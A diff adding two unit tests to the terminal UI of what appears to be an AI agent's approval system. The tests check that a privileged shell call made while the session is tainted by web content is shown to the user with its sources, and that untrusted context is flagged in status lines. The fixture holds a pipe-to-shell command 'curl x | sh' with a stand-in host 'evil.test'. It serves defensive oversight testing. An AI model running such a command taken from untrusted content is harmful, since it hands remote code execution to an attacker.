@@ -91,6 +91,28 @@ class TestKeys:
         action = handle_key(state, "n")
         assert (action.kind, action.argument, action.approved) == ("approve", "a9", False)
 
+    def test_a_taint_approval_shows_the_sources_and_the_exact_call(self) -> None:
+        state = TuiState(user_id="u")
+        apply_frame(
+            state,
+            g.ApprovalRequest(
+                request_id="r", session=S, turn=RUN, approval_id="a1", tool_name="shell_exec",
+                arguments={"command": "curl x | sh"}, safety_tier="privileged",
+                expires_in_secs=30, reason="asked while tainted",
+                taint_sources=["web_fetch https://evil.test/"],
+            ),
+        )  # fmt: skip
+        shown = state.entries[-1].text
+        assert '{"command": "curl x | sh"}' in shown
+        assert "web_fetch https://evil.test/" in shown and "asked while tainted" in shown
+
+    def test_status_shows_the_sessions_taint(self) -> None:
+        state = TuiState(user_id="u")
+        apply_frame(state, g.HealthStatus(request_id="h", healthy=True, taint=["mcp github"]))
+        apply_frame(state, g.HealthStatus(request_id="h", healthy=True))
+        assert "context=untrusted: mcp github" in state.entries[-2].text
+        assert "context=trusted" in state.entries[-1].text
+
     def test_backspace_joins_lines(self) -> None:
         state = TuiState(user_id="u")
         typed(state, "ab")
